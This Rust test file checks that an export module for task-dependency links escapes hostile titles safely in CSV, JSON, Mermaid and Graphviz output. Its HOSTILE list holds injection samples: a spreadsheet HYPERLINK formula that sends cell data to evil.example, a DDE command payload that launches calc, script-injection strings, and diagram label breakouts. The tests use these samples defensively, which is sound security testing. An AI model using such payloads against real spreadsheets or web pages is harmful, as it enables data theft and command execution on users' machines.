#![allow(clippy::unwrap_used, reason = "tests")]

use mainstem_model::{
    LinkId, LinkKind, LinkOrigin, LinkReview, LinkState, StatusCategory, TaskId, Timestamp,
};
use proptest::prelude::*;
use serde_json::Value;

use crate::picture::{MOST_EDGES, Picture, one_line};
use crate::{Edge, End, Owner, Quote, dot, json, mermaid, table};

/// What somebody may write into a title.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"click\")",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "a,b;\"c\"\r\nd",
    "'quoted'",
    "",
    "\"]\n  click n0 \"javascript:alert(1)\"",
    "a --> b",
    "%% note",
    "%%{init: {}}%%",
    "end",
    "1. one",
    "`**bold**`",
    "style x:#35;",
    "#quot;",
    "<img src=x onerror=alert(1)>",
    "<br/>",
    "graph TD; a-->b",
    "\\",
    "\\\"",
    "\\N\\G\\l",
    "\"]; evil [shape=box]; x [label=\"",
    "&lt;b&gt;",
    "&#34;",
    "// x",
    "/* x",
    "# x",
    "日本語 ünï",
    "\u{202e}abc",
    "\u{0}",
];

fn task<'v>(key: &'v str, title: &'v str) -> End<'v> {
    let of_key =
        key.bytes().fold(7_u128, |sum, byte| sum.wrapping_mul(31).wrapping_add(byte.into()));
    End {
        id: format!("{}_{of_key:032x}", TaskId::PREFIX).parse().ok(),
        title: Some(title),
        status: Some("In Progress"),
        category: Some(StatusCategory::InProgress),
        owners: vec![
            Owner { name: title, email: Some("mina@acme.example") },
            Owner { name: "Bob", email: None },
        ],
        due_on: "2026-12-01".parse().ok(),
        source: Some("acme"),
        project: Some("ENG"),
        url: Some("https://acme.example/1"),
        ..End::unknown(key)
    }
}

fn edge<'v>(from: End<'v>, to: End<'v>, quote: &'v str) -> Edge<'v> {
    let since: Timestamp = "2026-11-01T08:00:00Z".parse().unwrap();
    Edge {
        id: LinkId::of("BLOCKS", "INFERRED", from.key, to.key),
        kind: LinkKind::Blocks,
        state: if to.id.is_some() { LinkState::Active } else { LinkState::Unbound },
        age_days: 25,
        since,
        until: None,
        origin: LinkOrigin::Inferred,
        review: LinkReview::Unreviewed,
        confidence: 0.95,
        cross_tool: false,
        from,
        to,
        evidence: vec![Quote { quote, url: None, seen_at: since }],
    }
}

fn written(write: impl FnOnce(&mut Vec<u8>) -> std::io::Result<()>) -> String {
    let mut out = Vec::new();
    write(&mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// The rows of a table, as a reader of CSV sees them.
fn rows(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// Whether a spreadsheet would calculate a cell.
fn is_calculated(cell: &str) -> bool {
    cell.starts_with(['\t', '\r', '\n'])
        || cell.trim_start().starts_with(['=', '+', '-', '@', '＝'])
}

#[test]
fn a_table_has_stable_columns_and_one_row_an_edge() {
    let edges = vec![edge(
        task("ENG-1", "Ship, \"now\""),
        End::unknown("acme/api#7"),
        "Blocked by: acme/api#7",
    )];
    let text = written(|out| table::write(edges.into_iter(), out));
    let expected = "\u{feff}kind,state,age_days,since,until,origin,review,confidence,cross_tool,\
        from_key,from_title,from_status,from_category,from_owners,from_due,from_source,from_project,from_url,\
        to_key,to_title,to_status,to_category,to_owners,to_due,to_source,to_project,to_url,\
        evidence,evidence_url\r\n\
        BLOCKS,UNBOUND,25,2026-11-01T08:00:00Z,,INFERRED,UNREVIEWED,0.95,false,\
        ENG-1,\"Ship, \"\"now\"\"\",In Progress,IN_PROGRESS,\"Ship, \"\"now\"\"; Bob\",2026-12-01,acme,ENG,https://acme.example/1,\
        acme/api#7,,,,,,,,,Blocked by: acme/api#7,\r\n";
    assert_eq!(text, expected);
}

#[test]
fn no_cell_is_calculated_and_every_cell_can_be_read() {
    for hostile in HOSTILE {
        let edges = [edge(task(hostile, hostile), task("ENG-2", hostile), hostile)];
        let rows = rows(&written(|out| table::write(edges.into_iter(), out)));
        assert_eq!(rows.len(), 2, "{hostile:?}");
        for cell in &rows[1] {
            assert!(!is_calculated(cell), "{hostile:?}: {cell:?}");
        }
        let title = &rows[1][10];
        let expected =
            if is_calculated(hostile) { format!("'{hostile}") } else { (*hostile).into() };
        assert_eq!(*title, expected);
    }
}

#[test]
fn data_holds_the_same_facts_by_type() {
    assert_eq!(written(|out| json::write(std::iter::empty(), out)), "[]\n");
    for hostile in HOSTILE {
        let edges = || {
            vec![
                edge(task("ENG-1", hostile), task("ENG-2", "two"), hostile),
                edge(task("ENG-1", hostile), End::unknown("acme/api#7"), hostile),
            ]
        };
        let text = written(|out| json::write(edges().into_iter(), out));
        let data: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(data.as_array().unwrap().len(), 2);
        assert_eq!(data[0]["from"]["title"], *hostile);
        assert_eq!(data[0]["from"]["owners"][0]["email"], "mina@acme.example");
        assert_eq!(data[0]["ageDays"], 25);
        assert_eq!(data[0]["since"], "2026-11-01T08:00:00Z");
        assert_eq!(data[0]["until"], Value::Null);
        assert_eq!(data[0]["to"]["dueOn"], "2026-12-01");
        assert_eq!(data[1]["to"]["key"], "acme/api#7");
        assert_eq!(data[1]["to"]["title"], Value::Null);
        assert_eq!(data[1]["evidence"][0]["quote"], *hostile);
    }
}

#[test]
fn pictures_show_boxes_by_source_and_arrows_by_kind() {
    let edges = vec![
        edge(task("ENG-1", "One"), task("ENG-2", "Two"), ""),
        edge(task("ENG-2", "Two"), End::unknown("acme/api#7"), ""),
    ];
    let picture = Picture::showing(edges.into_iter(), MOST_EDGES);
    let drawn = mermaid::of(&picture);
    let (boxes, looks) = drawn.split_once("  classDef").unwrap();
    assert_eq!(
        boxes,
        "flowchart LR\n  n2[\"acme#47;api#35;7\"]:::unknown\n  subgraph s1 [\"acme\"]\n  \
         n0[\"ENG#45;1<br/>In Progress<br/>One\"]:::inProgress\n  \
         n1[\"ENG#45;2<br/>In Progress<br/>Two\"]:::inProgress\n  end\n  \
         n0 ==>|BLOCKS| n1\n  n1 -.->|BLOCKS| n2\n"
    );
    assert_eq!(looks.matches("classDef").count(), 5);
    let drawn = dot::of(&picture);
    for part in [
        "subgraph cluster_1 {\n  label=\"acme\";\n",
        "n0 [label=\"ENG-1\\nIn Progress\\nOne\", fillcolor=",
        "n2 [label=\"acme/api#7\", fillcolor=",
        "n0 -> n1 [label=\"BLOCKS\", style=bold];",
        "n1 -> n2 [label=\"BLOCKS\", style=dashed];",
    ] {
        assert!(drawn.contains(part), "{part:?} is missing in {drawn}");
    }
    assert!(!drawn.contains("//"), "nothing is left out: {drawn}");
}

#[test]
fn a_picture_says_what_it_leaves_out() {
    let keys: Vec<_> = (0..=MOST_EDGES).map(|number| format!("ENG-{number}")).collect();
    let edges = || {
        let pairs: Vec<_> = keys.windows(2).collect();
        pairs.into_iter().map(|pair| edge(task(&pair[0], "a"), task(&pair[1], "b"), ""))
    };
    let whole = Picture::showing(edges().collect::<Vec<_>>().into_iter(), MOST_EDGES);
    assert_eq!(whole.note(), None);
    let part = Picture::showing(edges().collect::<Vec<_>>().into_iter(), MOST_EDGES - 20);
    assert_eq!(part.arrows.len(), MOST_EDGES - 20);
    for drawn in [mermaid::of(&part), dot::of(&part)] {
        assert!(drawn.contains("the first 480 edges and leaves out 20 more"), "{drawn}");
    }
}

#[test]
fn a_text_becomes_one_line_of_bounded_length() {
    for (text, most, expected) in [
        ("a\r\n b\tc", 60, "a b c"),
        ("\u{202e}abc\u{0}", 60, "abc"),
        ("äöüß", 4, "äöüß"),
        ("äöüßx", 4, "äöü…"),
        ("", 4, ""),
    ] {
        assert_eq!(one_line(text, most), expected, "{text:?}");
    }
}

/// What Graphviz shows of a quoted text: escapes first, then characters of HTML.
fn shown_by_graphviz(quoted: &str) -> String {
    let mut text = String::new();
    let mut characters = quoted.chars();
    while let Some(c) = characters.next() {
        match c {
            '\\' => {
                let escaped = characters.next().unwrap();
                assert!(matches!(escaped, '\\' | '"'), "an escape of Graphviz: {quoted:?}");
                text.push(escaped);
            }
            '"' => unreachable!("the quotes end: {quoted:?}"),
            c => text.push(c),
        }
    }
    let rest = text.replace("&amp;", "");
    assert!(!rest.contains('&'), "a character of HTML: {quoted:?}");
    text.replace("&amp;", "&")
}

/// What Mermaid shows of a quoted text.
fn shown_by_mermaid(quoted: &str) -> String {
    let mut text = String::new();
    let mut rest = quoted;
    while let Some((plain, code)) = rest.split_once('#') {
        let (code, after) = code.split_once(';').unwrap();
        text.push_str(plain);
        text.push(char::from_u32(code.parse().unwrap()).unwrap());
        rest = after;
    }
    text + rest
}

fn holds_in_pictures(text: &str) {
    let line = one_line(text, usize::MAX);
    assert_eq!(shown_by_graphviz(&dot::quoted(&line)), line);
    let quoted = mermaid::quoted(&line);
    let known = |c: char| c.is_alphanumeric() || " #;".contains(c);
    assert!(quoted.chars().all(known), "{quoted:?}");
    assert_eq!(shown_by_mermaid(&quoted), line);
    // As many lines and quotes as with a harmless title: the text has not left its quotes.
    let edges = |title| vec![edge(task("ENG-1", title), task("ENG-2", "two"), "")].into_iter();
    let shape = |drawn: String| {
        let escaped = drawn.replace("\\\\", "").replace("\\\"", "");
        (escaped.lines().count(), escaped.matches('"').count())
    };
    for draw in [mermaid::of, dot::of] {
        let harmless = draw(&Picture::showing(edges("harmless"), 1));
        let drawn = draw(&Picture::showing(edges(text), 1));
        assert_eq!(shape(drawn), shape(harmless), "{text:?}");
    }
}

#[test]
fn no_title_leaves_its_quotes_in_a_picture() {
    HOSTILE.iter().for_each(|text| holds_in_pictures(text));
}

proptest! {
    #[test]
    fn no_text_at_all_leaves_its_quotes(text in any::<String>()) {
        holds_in_pictures(&text);
    }

    #[test]
    fn every_table_can_be_read_back(texts in proptest::array::uniform3(any::<String>())) {
        let [key, title, quote] = &texts;
        let edges = [edge(task(key, title), task("ENG-2", "two"), quote)];
        let rows = rows(&written(|out| table::write(edges.into_iter(), out)));
        prop_assert_eq!(rows.len(), 2);
        for (cell, text) in [(&rows[1][9], key), (&rows[1][10], title), (&rows[1][27], quote)] {
            prop_assert!(!is_calculated(cell));
            prop_assert_eq!(cell.strip_prefix('\'').filter(|rest| rest == text).unwrap_or(cell), text);
        }
    }
}
